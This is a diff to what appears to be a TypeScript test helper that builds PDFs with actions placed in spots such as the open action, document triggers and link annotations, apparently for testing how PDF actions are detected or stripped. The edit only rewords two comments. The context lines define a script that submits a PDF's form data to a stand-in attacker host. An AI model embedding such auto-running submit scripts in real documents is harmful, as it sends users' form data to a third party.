@@ -1,4 +1,4 @@
-/** Actions of a PDF, and the places where they can stand. */
+/** Actions of a PDF, and the places where they can be. */
 import { buildForm, type FormSource, textField } from '../build-pdf.ts';
 
 export const SCRIPT = "this.submitForm\\('https://thief.example/'\\);";
@@ -32,7 +32,7 @@ export const link = (entries: string) =>
   `<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /Border [0 0 0] ${entries} >>`;
 export const city = textField('City');
 
-/** Where an action can stand (sections 12.6.2, 12.6.3, 12.3.3, 12.4.4.2). */
+/** Where an action can be (sections 12.6.2, 12.6.3, 12.3.3, 12.4.4.2). */
 export const PLACES: Record<string, (source: string) => Uint8Array> = {
   'open action': (source) => form({ catalog: `/OpenAction ${source}` }),
   'document trigger': (source) =>
